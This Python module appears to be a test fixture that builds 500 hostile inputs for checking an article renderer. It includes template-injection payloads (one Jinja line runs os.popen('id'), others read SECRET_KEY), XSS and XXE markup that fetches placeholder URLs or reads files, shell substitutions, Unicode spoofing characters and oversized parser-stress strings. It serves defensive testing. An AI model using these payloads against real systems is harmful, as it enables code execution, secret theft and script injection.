"""Five hundred hostile clauses: a hundred things that somebody might type into an article, each in five disguises.

`{file}` is a file whose words must never be read, `{url}` an address that must never be asked, `{sum}` the product that only a
program would compute.
"""

from collections.abc import Iterator

TEMPLATES = (
    # Django, Jinja
    "{{{{ settings.SECRET_KEY }}}}", "{{{{ x.__class__ }}}}", "{{{{ agent.name.__class__.__mro__ }}}}", "{{% debug %}}",
    "{{% widthratio 31337 1 31337 %}}", '{{% include "{file}" %}}', '{{% extends "{file}" %}}', "{{% load static %}}{{% static 'x' %}}",
    '{{% ssi "{file}" parsed %}}', "{{% csrf_token %}}", "{{% autoescape off %}}{{{{ agent.name }}}}{{% endautoescape %}}",
    "{{% for a in settings %}}{{{{ a }}}}{{% endfor %}}", "{{{{ 31337*31337 }}}}", "{{{{ agent.name|safe }}}}", "{{{{ agent.name|attr('x') }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}", "{{{{ config.items() }}}}", "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "{{{{ lipsum.__globals__ }}}}", "{{% set x = 31337*31337 %}}{{{{ x }}}}", "{{% raw %}}{{{{ a }}}}{{% endraw %}}", "{{# a comment #}}",
    "{{{{ agent.name }}}}{{{{ agent.name", "{{{{ {{{{ agent.name }}}} }}}}", "}}}}{{{{ agent.name {{{{", "{{{{ ref.__class__ }}}}",
    "{{{{ agent.name|upper|safe }}}}", "{{{{ Agent.Name }}}}", "{{{{agent.name\n}}}}", "{{{{ agent\u2024name }}}}",
    # ERB, Liquid, Handlebars, Velocity, FreeMarker, Thymeleaf, Smarty, Mako, shells, str.format, %
    "<%= 31337*31337 %>", "<%= File.read('{file}') %>", "{{% assign x = 31337 | times: 31337 %}}{{{{ x }}}}", "{{{{ 31337 | times: 31337 }}}}",
    "{{{{{{ agent.name }}}}}}", "{{{{#each this}}}}{{{{/each}}}}", "#set($x=31337*31337)$x", "${{31337*31337}}", "#{{31337*31337}}", "*{{31337*31337}}",
    "<#assign x=31337*31337>${{x}}", "[[${{31337*31337}}]]", "{{php}}echo 31337*31337;{{/php}}", "<% 31337*31337 %>", "$(id)", "`id`",
    "{{0.__class__}}", "{{0.__init__.__globals__[settings].SECRET_KEY}}", "{{agent.name!r}}", "%(agent)s %s %n", "{{?exclusive}}{{?exclusive}} x",
    "{{?__class__}} x", "{{?exclusive or 1}} x",
)  # fmt: skip
MARKUP = (
    "<script>fetch('{url}')</script>", "<script src='{url}'></script>", "<img src='{url}'>", "<img src='{file}'>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><image href='{url}'/></svg>", "<svg><use href='{file}#a'/></svg>", "<svg><script>alert(1)</script></svg>",
    "<iframe src='{file}'></iframe>", "<object data='{file}'></object>", "<embed src='{url}'>", "<link rel=attachment href='{file}'>",
    "<link rel=stylesheet href='{url}'>", "<style>@import url({url});</style>", "<style>@import '{style}';</style>", "<base href='{url}'>",
    "<style>@font-face{{font-family:x;src:url({url})}} *{{font-family:x}}</style>", "<p style='background:url({url})'>x</p>",
    "<p style=\"content:url('{file}')\">x</p>", "<meta http-equiv=refresh content='0;url={url}'>", "<a href='javascript:alert(1)'>x</a>",
    "<a href='{file}'>x</a>", "<form action='{url}'><button>x</button></form>", "<math><mi xlink:href='{url}'>x</mi></math>",
    "<video src='{url}' autoplay></video>", "<table background='{url}'><tr><td>x</table>", "<!ENTITY x SYSTEM '{file}'>&x;",
    "<?xml-stylesheet href='{url}'?>", "<![CDATA[<img src={url}>]]>", "<xi:include href='{file}'/>", "<p onmouseover=alert(1)>x</p>",
    "[x](javascript:alert(1))", "[x]({file})", "![x]({url})", "![x]({file})", "<{url}>", "[x]: {url}\n[x]", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "javascript:alert(1)", "\u202egnp.exe", "\u2066hidden\u2069", "zero\u200bwidth\ufeff", "\u00adsoft", "nul\u0008back",
    "&lt;img src='{url}'&gt;", "&#60;img src='{url}'&#62;", "&#x26;lt;script&#x26;gt;",
)  # fmt: skip
DISGUISES = (
    "{0}",
    "The list:\n- {0}\n- **{0}**",
    "**{0}**",
    "{{{{ agent.name }}}} {0}",
    "<p>{0}</p>\n" + "- " * 40 + "{0}",
)


def clauses(file: str, style: str, url: str) -> Iterator[str]:
    """Each thing in each disguise, then what is only large: 500 in all."""
    told = [text.format(file=file, url=url, style=style) for text in (*TEMPLATES, *MARKUP)]
    every = [disguise.format(text) for text in told for disguise in DISGUISES]
    large = [
        "{" * 19_000,
        "}{" * 9_000,
        "*" * 19_000,
        "- " * 9_000 + "x",
        "{{ " * 6_000,
        "\\*" * 9_000,
        "_a" * 9_000,
        "a\n" * 9_000,
    ]
    yield from [*large, *every][:500]
